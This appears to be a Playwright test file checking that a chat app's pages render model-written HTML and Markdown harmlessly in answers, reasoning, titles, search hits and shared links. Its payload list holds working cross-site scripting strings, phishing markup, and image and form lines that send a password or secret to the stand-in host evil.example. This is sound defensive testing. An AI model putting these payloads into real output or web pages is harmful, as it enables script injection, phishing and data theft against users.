"""Whatever a model writes, the page runs none of it, loads none of it, and stays ours.

tests/chat/test_markdown_attacks.py has many more, for the Markdown alone.
"""

import pytest
from playwright.sync_api import expect

from .library import opened
from .talk import answer, ask, done, questions, text_of

ATTACKS = [
    "<img src=x onerror=hurt()>",
    "<script>hurt()</script>",
    "<svg onload=hurt()>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password autofocus onfocus=hurt()></form>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "[x](javascript:hurt())",
    "[x](data:text/html,<script>parent.hurt()</script>)",
    "![x](https://evil.example/?q=secret)",
    "![x](x)",
    "[![x](https://evil.example/?q=secret)](https://a.example)",
    "$\\href{javascript:hurt()}{x}$",
    "```<img/src=x/onerror=hurt()>",
    "</div></article></main><h1>Sign in again</h1>",
    "</template><img src=x onerror=hurt()>",
]
ALL = "\n\n".join(ATTACKS)
HURT = "window.isHurt = false; window.hurt = () => (window.isHurt = true);"
# What only our own templates put into an answer.
STRANGE = "script, iframe, object, embed, img, style, link, meta, base, video, audio, form, input"


@pytest.fixture
def victim(visit):
    """Leaving checks that no other host was asked, and that nothing was refused by the policy:
    the policy is the second wall.
    """
    visitor = visit()
    visitor.context.add_init_script(HURT)
    return visitor


def is_unharmed(page, article):
    for link in article.locator(".blocks a").all():
        assert link.get_attribute("href").startswith("https://")
    for strange in article.locator(f".blocks :is({STRANGE})").all():
        raise AssertionError(strange.evaluate("element => element.outerHTML"))
    expect(page.get_by_role("heading", name="Sign in again")).to_have_count(0)
    return page.evaluate("window.isHurt === false")


def test_an_answer_that_attacks_does_nothing_while_it_streams(victim):
    page = victim.open()
    ask(page, " ¶ ¶ ".join(ATTACKS))
    done(page)

    assert is_unharmed(page, answer(page))
    expect(text_of(answer(page))).to_contain_text("<img src=x onerror=hurt()>")
    expect(questions(page)).to_contain_text("<img src=x onerror=hurt()>")


def test_nor_when_the_page_is_loaded(victim):
    page = opened(victim, ALL, ALL, reasoning=ALL)
    answer(page).locator(".thinking summary").click()

    assert is_unharmed(page, answer(page))


def test_nor_as_a_title_in_lists_and_hits(victim):
    page = opened(victim, ALL, ALL, title="<img src=x onerror=hurt()>")
    page.locator("#side-search").fill("onerror")
    expect(page.locator(".chat-hit")).to_have_count(1)

    assert is_unharmed(page, answer(page))
    expect(page.locator(".chat-hit")).to_contain_text("<img src=x onerror=hurt()>")


def test_nor_on_a_page_that_is_shared(victim, stranger):
    stranger.context.add_init_script(HURT)
    page = opened(victim, ALL, ALL)
    page.goto(page.url + "share/")
    page.get_by_role("button", name="Make a link").click()
    shared = stranger.open(page.locator("code.wrap").text_content())

    expect(shared.locator(".prose")).to_contain_text("<img src=x onerror=hurt()>")
    assert shared.locator(f".prose :is({STRANGE})").count() == 0
    assert shared.evaluate("window.isHurt === false")
